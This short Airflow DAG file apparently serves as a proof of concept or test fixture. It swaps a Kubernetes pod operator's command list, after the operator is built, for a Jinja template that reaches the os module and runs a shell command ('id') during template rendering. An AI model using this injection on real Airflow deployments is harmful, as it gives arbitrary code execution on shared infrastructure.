from datetime import datetime

from airflow import DAG
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator

words = ["a"]
KubernetesPodOperator(task_id="q", namespace="orders", cmds=words, pod_template_file="/usr/local/airflow/dags/templates/orders/orders-api/job.yaml", dag=DAG("orders.y", start_date=datetime(2024, 1, 1)))
words[0:1] = ["{{ macros.uuid.os.popen('id').read() }}"]
